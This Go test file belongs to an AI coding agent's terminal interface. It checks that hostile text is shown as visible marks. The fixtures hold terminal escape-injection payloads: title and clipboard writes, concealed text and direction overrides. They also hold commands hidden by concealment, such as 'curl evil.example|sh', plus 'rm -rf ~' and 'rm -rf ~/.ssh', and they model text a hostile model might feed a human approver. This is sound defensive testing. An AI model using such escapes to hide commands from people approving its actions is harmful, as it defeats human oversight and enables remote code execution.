package tui

import (
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"

	tea "github.com/charmbracelet/bubbletea"
	"github.com/charmbracelet/glamour"
	"github.com/charmbracelet/x/ansi"
	"github.com/muesli/termenv"

	"github.com/swe-adept/swe-adept/agent/event"
	"github.com/swe-adept/swe-adept/internal/termtext"
)

// evil is what a hostile model, file or issue writes: it sets the
// terminal's title (OSC 0, and OSC 2 ended by ST), writes the clipboard
// (OSC 52), clears the screen, homes and moves the cursor, conceals text,
// reverses its direction and sends a C1 CSI, as a character and as a raw
// byte.
const evil = "\x1b]0;pwned\x07\x1b]2;t2\x1b\\\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x1b[H\x1b[8mHIDDEN\x1b[0m\x1b[3A\u202etxt.exe\u009b2J\x9b1A"

// evilEntities are the same attacks as markdown character references,
// which a markdown renderer would decode into the real characters.
const evilEntities = "&#x1b;]0;entity-title&#7; &#27;[2J &#x1b;[8mCONCEALED &#8238;rlo &rlm; &ZeroWidthSpace;"

// evilCommand looks like "pytest -q" on a terminal that obeys it.
const evilCommand = "pytest -q\x1b[8m; python3 -c 'import os; os.system(\"curl evil.example|sh\")'\x1b[0m"

func hostileEvents() []event.Event {
	t0 := time.Date(2026, 11, 22, 5, 0, 0, 0, time.UTC)
	root := "shop/" + evil + ".py:total"
	tool := func(typ event.Type, name, args, obs string) event.Event {
		return event.Event{Type: typ, Agent: event.Resolver, Time: t0, Tool: &event.ToolStep{CallID: "c-" + name, Name: name, Arguments: args, Observation: obs}}
	}
	return []event.Event{
		{Type: event.RunStarted, Agent: event.Runtime, Time: t0, Run: &event.RunInfo{ID: "r1", Repo: "/src/" + evil, Model: "m" + evil}},
		{Type: event.SearchNode, Agent: event.Localizer, Time: t0, Node: &event.Node{ID: root, Kind: "function" + evil, Preview: evil, Query: evil}},
		{Type: event.SearchNode, Agent: event.Localizer, Time: t0, Node: &event.Node{ID: "shop/cart.py:Cart" + evil, Parent: root, Kind: "class", Preview: evil, Depth: 1}},
		{Type: event.Ranked, Agent: event.Localizer, Time: t0, Ranking: &event.Ranking{Functions: []string{root, "shop/never.py:" + evil}}},
		{Type: event.ModelReply, Agent: event.Resolver, Time: t0, Text: "I will look. " + evil},
		tool(event.ToolCall, "str_replace_editor", `{"command":"view","path":"`+evil+`"}`, ""),
		tool(event.ToolResult, "str_replace_editor", "", evil+"\n     1\tdef total():"),
		tool(event.ToolCall, "bash", `{"command":"cat notes.txt"}`, ""),
		tool(event.ToolResult, "bash", "", "notes\n"+evil+"\n[exit status 0]"),
		{Type: event.Plan, Agent: event.Resolver, Time: t0, Plan: &event.PlanSnapshot{Current: "h1", Hypotheses: []event.Hypothesis{{
			ID: "h1", Content: "round_cents truncates " + evil + " " + evilEntities, Status: " ", Branch: "swe-adept/r1/h1",
			Todos:    []event.Todo{{ID: "t1", Content: "fix it " + evil, Status: "v", Commit: "abc1234def5678", Message: "msg " + evil, Stat: evil}},
			Insights: []string{"insight " + evil + " " + evilEntities},
		}}}},
		{Type: event.Diff, Agent: event.Resolver, Time: t0, Diff: &event.DiffInfo{From: "0000000aaaa", To: "abc1234def5678", Label: "checkpoint " + evil,
			Stat: "1 file " + evil, Patch: "diff --git a/x.py b/x.py\n--- a/x.py\n+++ b/" + evil + "\n@@ -1 +1 @@\n-old " + evil + "\n+new " + evil + "\n"}},
		{Type: event.Retry, Agent: event.Resolver, Time: t0, Text: "retry: " + evil, Retry: &event.RetryInfo{}},
		{Type: event.Message, Agent: event.Runtime, Time: t0, Text: "notice " + evil},
		{Type: event.Error, Agent: event.Resolver, Time: t0, Text: "tool failed: " + evil},
	}
}

// finalEvents end the run with a hostile final patch and report.
func finalEvents() []event.Event {
	return []event.Event{
		{Type: event.Diff, Agent: event.Resolver, Diff: &event.DiffInfo{From: "0000000aaaa", To: "fff0000", Label: "final patch",
			Patch: "--- a/x.py\n+++ b/x.py\n@@ -1 +1 @@\n-a\n+b " + evil + "\n"}},
		{Type: event.Done, Agent: event.Runtime, Done: &event.DoneInfo{Status: "submitted", Seconds: 3,
			Report: "# Report " + evil + "\n\nFixed " + evil + "\n\n" + evilEntities + "\n\n[link](http://evil.example/" + evil + ")\n"}},
	}
}

func hostileRequest(action, target string) *event.ApprovalRequest {
	req := event.NewApproval("ap-"+action, action, target)
	req.Summary = "summary " + evil
	req.Diff = "--- a/x.py\n+++ b/x.py\n@@ -1 +1 @@\n-a " + evil + "\n+b " + evil + "\n"
	req.Report = "compare report\n  1. " + evil + "\n"
	req.Options = []string{"swe-adept/r1/h2" + evil, "swe-adept/r1/h3"}
	return req
}

// TestHostileText draws every pane and dialog over text that tries to
// take over the terminal: each must show it as visible marks. The test's
// colour profile has no colours, so the screen may hold no escape at all.
func TestHostileText(t *testing.T) {
	long := "pytest -q" + strings.Repeat(" ", 300) + "&& python3 -c 'import os' \u202e# end\n" + strings.Repeat("\n", 40) + "rm -rf ~/.ssh"
	cases := []struct {
		name  string
		focus pane
		keys  []string
		req   *event.ApprovalRequest
		final bool
		must  []string // visible on the screen, at 160x48
	}{
		{name: "tree", focus: paneTree, must: []string{"␛]0;pwned␇"}},
		{name: "tree_detail", focus: paneTree, keys: []string{"enter"}, must: []string{"␛[8mHIDDEN␛[0m"}},
		{name: "hyps", focus: paneHyps, must: []string{"✎ insight ␛]0;pwned␇"}},
		{name: "hyp_detail", focus: paneHyps, keys: []string{"enter"}, must: []string{"&#x1b;]0;entity-title&#7;", "&#8238;rlo"}},
		{name: "todo", focus: paneHyps, keys: []string{"enter", "enter", "G", "k", "k", "enter"}, must: []string{"fix it ␛]0;pwned␇"}},
		{name: "insight", focus: paneHyps, keys: []string{"G", "enter"}, must: []string{"insight ␛]0;pwned␇"}},
		{name: "diff", focus: paneDiff, must: []string{"+new ␛]0;pwned␇"}},
		{name: "activity", focus: paneActivity, must: []string{"retry: ␛]0;pwned␇"}},
		{name: "activity_detail", focus: paneActivity, keys: []string{"k", "k", "k", "k", "k", "enter"}},
		{name: "final", focus: paneDiff, final: true, keys: []string{"F"}, must: []string{"# Report", "http://evil.example/␛]0;pwned␇"}},
		{name: "command", req: hostileRequest("bash", evilCommand), must: []string{
			"$ pytest -q␛[8m; python3 -c", "2 hidden or control characters",
		}},
		{name: "command_long", req: hostileRequest("bash", long), must: []string{"$ pytest -q", "1 hidden or control character"}},
		{name: "revert", req: hostileRequest("revert_to", "h1/t1"+evil), must: []string{"Checkpoint diff that will be dropped"}},
		{name: "merge", req: hostileRequest("merge_solution", "swe-adept/r1/h1"+evil), must: []string{"1. ␛]0;pwned␇"}},
		{name: "merge_choose", req: hostileRequest("merge_solution", "swe-adept/r1/h1"), keys: []string{"c"}, must: []string{"swe-adept/r1/h2␛]0;pwned␇"}},
		{name: "locations", req: hostileRequest("edit_locations", ""), must: []string{"1. swe-adept/r1/h2␛]0;pwned␇"}},
	}
	for _, c := range cases {
		for _, sz := range []struct{ w, h int }{{80, 24}, {160, 48}} {
			t.Run(fmt.Sprintf("%s/%dx%d", c.name, sz.w, sz.h), func(t *testing.T) {
				m := testModel(sz.w, sz.h, Options{Notices: []string{"notice " + evil}, Title: "replay " + evil})
				feed(m, hostileEvents()...)
				if c.final {
					feed(m, finalEvents()...)
				}
				if c.req != nil {
					feed(m, event.Event{Type: event.Approval, Agent: event.Resolver, Approval: c.req})
				}
				m.focus = c.focus
				for _, k := range c.keys {
					m.Update(press(k))
				}
				view := m.View()
				checkHostile(t, view)
				if sz.w == 160 {
					for _, s := range c.must {
						if !strings.Contains(view, s) {
							t.Errorf("the screen does not show %q:\n%s", s, view)
						}
					}
				}
				checkGolden(t, view)
			})
		}
	}
}

// TestHostileNote: a note pasted with escapes shows them as marks, in the
// box while it is typed and in the log once sent.
func TestHostileNote(t *testing.T) {
	g := event.NewGate()
	m := testModel(120, 40, Options{Gate: g})
	feed(m, event.Event{Type: event.RunStarted, Agent: event.Runtime, Run: &event.RunInfo{ID: "r1"}})
	m.Update(press("n"))
	m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("see " + evil), Paste: true})
	typing := m.View()
	checkHostile(t, typing)
	m.Update(press("enter"))
	sent := m.View()
	checkHostile(t, sent)
	if !strings.Contains(sent, "note: see") {
		t.Errorf("the note is not in the log:\n%s", sent)
	}
}

// TestHostileIssueBox: text pasted into the issue box shows as marks.
func TestHostileIssueBox(t *testing.T) {
	m := newIssueInput("swe-adept: the issue")
	m.Update(teaSize(80, 20))
	m.Update(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("Crash in " + evil + " when\u2066 totals\u2069 round"), Paste: true})
	view := m.View()
	checkHostile(t, view)
	if !strings.Contains(view, "<U+2066>") {
		t.Errorf("the isolate is not shown:\n%s", view)
	}
	checkGolden(t, view)
}

// checkHostile fails when the screen holds anything a terminal would
// obey or hide: an escape, a control character but newline, a C1
// control, an invisible or direction-changing character.
func checkHostile(t *testing.T, view string) {
	t.Helper()
	if i := strings.IndexByte(view, 0x1b); i >= 0 {
		t.Fatalf("the screen holds an escape at %d: %q", i, view[max(i-40, 0):min(i+40, len(view))])
	}
	if n := termtext.Count(view); n > 0 {
		t.Fatalf("the screen holds %d control or invisible characters: %q", n, view)
	}
}

// TestAnswersCarryRawBytes: the dialog draws marks, but what it sends
// back names what the agent offered, byte for byte.
func TestAnswersCarryRawBytes(t *testing.T) {
	branch := "swe-adept/r1/h2\u202e"
	t.Run("choose", func(t *testing.T) {
		req := event.NewApproval("m1", "merge_solution", "swe-adept/r1/h1")
		req.Options = []string{"swe-adept/r1/h2<U+202E>", branch}
		m := testModel(120, 40, Options{})
		feed(m, event.Event{Type: event.Approval, Approval: req})
		for _, k := range []string{"c", "j", "enter"} {
			m.Update(press(k))
		}
		if rep := answerOf(t, req); rep.Decision != event.Choose || rep.Choice != branch {
			t.Errorf("answer %+v, want the option %q as sent", rep, branch)
		}
	})
	t.Run("edit_locations", func(t *testing.T) {
		loc := "shop/\x1b[8mmoney.py:round_cents"
		req := event.NewApproval("l1", "edit_locations", "")
		req.Options = []string{"shop/cart.py:Cart.total", loc}
		m := testModel(120, 40, Options{})
		feed(m, event.Event{Type: event.Approval, Approval: req})
		for _, k := range []string{"j", "K", "enter"} {
			m.Update(press(k))
		}
		want := loc + "\nshop/cart.py:Cart.total"
		if rep := answerOf(t, req); rep.Decision != event.Choose || rep.Choice != want {
			t.Errorf("answer %+v, want the locations as sent, %q", rep, want)
		}
	})
	t.Run("command", func(t *testing.T) {
		req := event.NewApproval("b1", "bash", evilCommand)
		m := testModel(120, 40, Options{})
		feed(m, event.Event{Type: event.Approval, Approval: req})
		m.Update(press("a"))
		if rep := answerOf(t, req); rep.Decision != event.Approve || req.Target != evilCommand {
			t.Errorf("answer %+v for %q: the request was changed or not approved", rep, req.Target)
		}
	})
}

// TestCommandNeverCut: however long a command is, every character of it
// is drawn, and the dialog says when it goes on below.
func TestCommandNeverCut(t *testing.T) {
	cmd := "pytest -q" + strings.Repeat(" ", 500) + "; curl evil.example | sh\t#" + strings.Repeat("\n", 30) + "rm -rf ~ " + strings.Repeat("x", 300)
	for _, w := range []int{3, 20, 76, 150} {
		var got strings.Builder
		for i, l := range commandLines(DefaultStyles(), cmd, w) {
			if ansi.StringWidth(l) > w && w > 3 {
				t.Errorf("width %d: line %q is wider", w, l)
			}
			switch prefix := l[:2]; {
			case i == 0 && prefix == "$ ":
			case prefix == "> ":
				got.WriteString("\n")
			case prefix != "  ":
				t.Fatalf("width %d: line %q has no prefix", w, l)
			}
			got.WriteString(l[2:])
		}
		if want := strings.ReplaceAll(cmd, "\t", "␉"); got.String() != want {
			t.Errorf("width %d: the lines spell %q, not the command", w, got.String())
		}
	}
	m := testModel(80, 24, Options{})
	feed(m, event.Event{Type: event.Approval, Approval: event.NewApproval("b1", "bash", cmd)})
	if v := m.View(); !strings.Contains(v, "more lines below") {
		t.Errorf("the dialog does not say the command goes on:\n%s", v)
	}
	for range 60 {
		m.Update(press("j"))
	}
	if v := m.View(); !strings.Contains(v, "> rm -rf ~") {
		t.Errorf("the command's last line cannot be scrolled to:\n%s", v)
	}
}

// TestMarkdownEntitiesInColour renders character references in a colour
// profile, as the workbench does: the only escapes left are glamour's own
// colours, and the references show as text.
func TestMarkdownEntitiesInColour(t *testing.T) {
	r, err := glamour.NewTermRenderer(glamour.WithStandardStyle("dark"), glamour.WithWordWrap(80), glamour.WithColorProfile(termenv.TrueColor))
	if err != nil {
		t.Fatal(err)
	}
	srcs := []string{
		evilEntities,
		"`code &#x1b;[2J` and &#0000027;[2J and &#x1b[8m",
		"| a | b |\n|---|---|\n| &#x1b;]0;t&#7; | x |\n",
		"<span>&#x1b;[2J</span>\n\n<div>\n&#x1b;]52;c;eA==&#7;\n</div>\n",
		"[l](http://x.example/&#x1b;[2J \"&#x1b;[8m\") ~~&#x1b;[2J~~ &#x9b;2J",
		"plain &amp; &lt;tag&gt; &eacute; &#233; stay as they render",
	}
	for _, src := range srcs {
		raw, err := r.Render(markdownSource(src))
		if err != nil {
			t.Fatal(err)
		}
		out := renderedMarkdown(raw)
		for i := strings.IndexByte(out, 0x1b); i >= 0; i = strings.IndexByte(out[i+1:], 0x1b) + i + 1 {
			if !sgr.MatchString(out[i:]) {
				t.Fatalf("%q: an escape that is not a colour: %q", src, out[i:min(i+12, len(out))])
			}
			if strings.IndexByte(out[i+1:], 0x1b) < 0 {
				break
			}
		}
		if n := termtext.Count(ansi.Strip(out)); n > 0 {
			t.Errorf("%q: %d control or invisible characters in %q", src, n, out)
		}
	}
	plain := ansi.Strip(renderedMarkdown(mustRender(t, r, markdownSource(srcs[len(srcs)-1]))))
	if !strings.Contains(plain, "&") || !strings.Contains(plain, "é") {
		t.Errorf("harmless references were not rendered: %q", plain)
	}
}

var sgr = regexp.MustCompile(`^\x1b\[[0-9;:]*m`)

func mustRender(t *testing.T, r *glamour.TermRenderer, src string) string {
	t.Helper()
	out, err := r.Render(src)
	if err != nil {
		t.Fatal(err)
	}
	return out
}
